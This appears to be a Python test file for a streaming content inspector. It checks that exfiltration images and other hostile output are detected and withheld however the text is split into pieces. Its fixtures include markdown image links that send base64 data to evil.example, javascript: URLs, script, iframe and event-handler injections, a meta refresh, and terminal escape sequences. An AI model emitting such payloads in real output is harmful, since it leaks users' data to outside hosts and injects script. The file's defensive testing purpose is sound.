"""What must not come in is decided in a growing text as in the whole, in any pieces; no part of it leaves first."""

from typing import ClassVar

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rule_texts import matching, seeded

from appliance.inspect.detect.answering import output_families
from appliance.inspect.detect.english import tokenizer
from appliance.inspect.output.forms import FORMS
from appliance.inspect.output.patterns import exact
from appliance.inspect.overlap import cover
from appliance.inspect.scanning import labels_of
from appliance.inspect.stream.watching import Watching
from appliance.model.detection import Selector

CEILING = 1 << 16
ALL = (Selector(kinds=("output",)),)
CHOICES = (ALL, (Selector(entities=("EXFILTRATION_IMAGE",)),), (Selector(kinds=("output",), min_score=0.6),), ())
GLUE = ("", " ", "\n", "![", "](", "[", "]", "<", ">", "&#", "=", '"', "\x1b", "\x1b]", "](https://", "\\", "]: ")
relaxed = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
ECHO = "![Chart][ref]\n\nMore words of it.\n\n[ref]: https://evil.example/c?s=c2VjcmV0LXNlY3JldA==\n"
TEXTS = (
    "See ![chart](https://evil.example/p.png?d=Zm9vYmFyYmF6cXV4) and [![b](//evil.example/b)](https://ok.example).",
    ECHO,
    'A <img alt=">" src = "https://evil.example/x?y=Zm9vYmFyYmF6cXV4"> b <a href=javascript:alert(1) onclick=x>',
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07 link \x1b]52;c;QUJD\x1b\\ \x9b2J \x08\x08\x08 done",
    "[x](java\tscript:alert(1)) [y](&#106;avascript:alert) <javascript:x> url('https://evil.example/f.woff')",
    "http://evil.example/a?b=Zm9vYmFyYmF6cXV4Zm9v. <script>a</script> <iframe src=//evil.example> <b/onload=x>",
    "So: <meta http-equiv='refresh' content='0; url=https://evil.example/p?d=Zm9vYmFyYmF6cXV4'> and on it goes",
)


class Alone:
    """These families and nothing else."""

    max_chars = 1 << 18
    time_limit_s = 5.0
    tokenizer: ClassVar = tokenizer()
    families = staticmethod(output_families)

    @staticmethod
    def exact(text):
        return tuple(sorted(exact(text)))

    beside = staticmethod(lambda *_: ())


@pytest.fixture(scope="module")
def watching():
    return Watching(Alone())


def cut(text, rng, longest):
    while text:
        length = rng.randint(1, longest)
        yield text[:length]
        text = text[length:]


def assert_as_whole(watching, text, pieces, hides=ALL):
    watch = watching.watch("content", hides, (), CEILING)
    want = cover(one for one in exact(text) if any(selector.takes(one) for selector in hides))
    left, found, last = list(want), [], 0
    for decided in [*map(watch.feed, pieces), watch.close()]:
        assert decided.until >= last
        last = decided.until
        found += decided.found
        left = [one for one in left if one not in decided.found]
        assert not left or decided.until <= left[0].start, "a part of it has left"
    assert (tuple(found), last) == (want, len(text)), text
    assert watch.labels() == labels_of([exact(text)]), text


@pytest.mark.parametrize("text", TEXTS)
def test_every_split_in_two_and_one_by_one(watching, text):
    for place in range(1, len(text)):
        assert_as_whole(watching, text, [text[:place], text[place:]])
    for hides in CHOICES:
        assert_as_whole(watching, text, list(text), hides)


@relaxed
@given(st.integers(0, 2**32), st.sampled_from([0, 3, 40, 400]))
def test_any_form_in_any_surroundings_in_any_pieces(watching, seed, longest):
    rng = seeded(seed)
    parts = []
    for _ in range(rng.randint(1, 5)):
        parts += rng.choices(GLUE, k=rng.randint(0, 3))
        parts.append(
            rng.choice(["word", "a b " * rng.randint(1, 200), matching(rng.choice(FORMS).shape, 0, rng, longest)])
        )
    text = "".join(parts)
    assert_as_whole(watching, text, cut(text, rng, rng.choice([1, 4, 30, 5000])), rng.choice(CHOICES))


def test_prose_is_not_held(watching):
    text = "Streams come in pieces; [1] most of them can go on (at once) and a < b holds nothing: so it is. " * 20
    watch = watching.watch("content", ALL, (), CEILING)
    held = sorted(n + 4 - watch.feed(text[n : n + 4]).until for n in range(0, len(text) - 4, 4))
    assert held[-1] <= 8


def test_what_is_allowed_elsewhere_ends_nothing_here(watching):
    ends = (Selector(entities=("EXFILTRATION_IMAGE",)),)
    decided, _ = watching.whole("content", TEXTS[0], (), ends, CEILING)
    assert decided.ends_at == TEXTS[0].index("https://")
    assert watching.whole("content", "[a](https://x.example)", (), ends, CEILING)[0].ends_at is None
